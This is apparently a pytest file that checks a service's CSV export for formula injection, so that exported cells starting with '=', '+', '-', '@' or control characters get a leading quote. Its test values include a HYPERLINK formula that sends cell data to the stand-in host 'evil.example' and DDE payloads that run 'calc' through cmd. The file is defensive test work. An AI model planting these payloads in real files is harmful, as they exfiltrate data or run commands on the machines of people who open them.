"""Every CSV the service writes defuses formulas (OWASP ASVS 5.0 V1.2.10; iom/csv_export.py).

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a NUL gets a leading single quote; a
plain number (``-3.2``) stays a number. The rule is checked on its own, then through the Plan CSVs (a measure title
``=HYPERLINK(...)``) and the metric CSVs; the Gateway CSV is in tests/web/gateway/test_pages_gateway.py.
"""

import csv
import io
from decimal import Decimal

import pytest

from iom.csv_export import csv_writer, neutralise_cell
from outcomes.models import PlanMeasure
from tests.outcomes.plan_support import enter, fake_reoffending, seeded

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\0=1+1", "'\0=1+1"),
        ("+3", "'+3"),  # a plain number has no plus sign
        ("-1e5", "'-1e5"),  # nor an exponent
        ("- 3", "'- 3"),
        ("-", "'-"),
        ("-.5", "'-.5"),
        ("-3.", "'-3."),
        ("-3.2", "-3.2"),  # a negative figure stays a number
        ("-12", "-12"),
        (-3.2, "-3.2"),
        (Decimal("-10"), "-10"),
        (-35, "-35"),
        ("0.5", "0.5"),
        ("Road casualties", "Road casualties"),
        ("a=b", "a=b"),  # only the first character counts
        ("", ""),
        (None, ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote_and_a_number_does_not(value, written):
    assert neutralise_cell(value) == written


def test_the_writer_quotes_as_rfc_4180_and_defuses_each_cell():
    out = io.StringIO()
    csv_writer(out).writerow(["=1+1", 'say "hi", then go', "-3.2", "line\nbreak"])
    assert out.getvalue() == '\'=1+1,"say ""hi"", then go",-3.2,"line\nbreak"\r\n'


def _rows(response) -> list[dict]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


@pytest.mark.django_db
@pytest.mark.parametrize("path", ["/api/v1/plan/", "/api/v1/plan/framework/"])
def test_a_plan_measure_title_that_is_a_formula_comes_out_as_text(api_as, analyst, manager, monkeypatch, path):
    fake_reoffending(monkeypatch, {2012: 0.45, 2013: 0.43, 2014: 0.41, 2015: 0.40})
    enter(seeded("ksi-road-collisions"), manager, y2013=350, y2014=315)
    PlanMeasure.objects.filter(code="ksi-road-collisions").update(title=HYPERLINK)

    rows = [row for row in _rows(api_as(analyst).get(path + "?format=csv")) if row["measure"] == "ksi-road-collisions"]

    assert {row["title"] for row in rows} == {"'" + HYPERLINK}
    if path.endswith("framework/"):  # the fall from 350 to 315 is still a negative number
        assert [(row["change"], row["change_pct"]) for row in rows[:2]] == [("", ""), ("-35", "-10")]
